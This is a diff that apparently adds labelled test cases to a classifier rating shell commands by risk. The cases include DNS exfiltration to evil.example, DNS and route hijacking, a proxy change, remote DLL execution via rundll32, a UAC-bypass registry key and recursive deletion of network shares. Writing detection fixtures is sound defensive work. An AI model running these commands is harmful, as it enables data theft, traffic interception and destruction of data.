@@ -1347,6 +1347,13 @@ THIRD_LOOK_BENIGN = [
 
 # Fourth look: Windows persistence and deletion spellings.
 FOURTH_LOOK = [
+    ("dig +short TXT $(hostname).evil.example", MODERATE),
+    ('ping -c1 "$(id -un).x.evil.example"', MODERATE),
+    ("sudo -E resolvectl dns eth0 203.0.113.53", HIGH),
+    ("docker exec -it router sh -c 'ip route add default via 203.0.113.1'", HIGH),
+    ('ssh root@host "echo nameserver 203.0.113.53 > /etc/resolv.conf"', HIGH),
+    ('cmd /c "netsh winhttp set proxy 203.0.113.8:8080"', HIGH),
+    ('pwsh -NoProfile -Command "rundll32 \\\\203.0.113.5\\s\\x.dll,Run"', CRITICAL),
     (r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /d cmd.exe /f", HIGH),
     (r'Remove-Item -LiteralPath "\\fileserver\share\finance" -Recurse -Force', HIGH),
     (r"rd /s /q \\nas01\backups", CRITICAL),
@@ -1358,6 +1365,8 @@ FOURTH_LOOK = [
 ]
 
 FOURTH_LOOK_BENIGN = [
+    ("host $(hostname)", SAFE),
+    ("dig $(hostname -f) +short", SAFE),
     (r"reg query HKCU\Software\Classes\ms-settings\shell\open\command", SAFE),
     (r"Get-ChildItem \\fileserver\share\reports", SAFE),
     (r"Remove-Item \\fileserver\share\tmp\old.log", MODERATE),
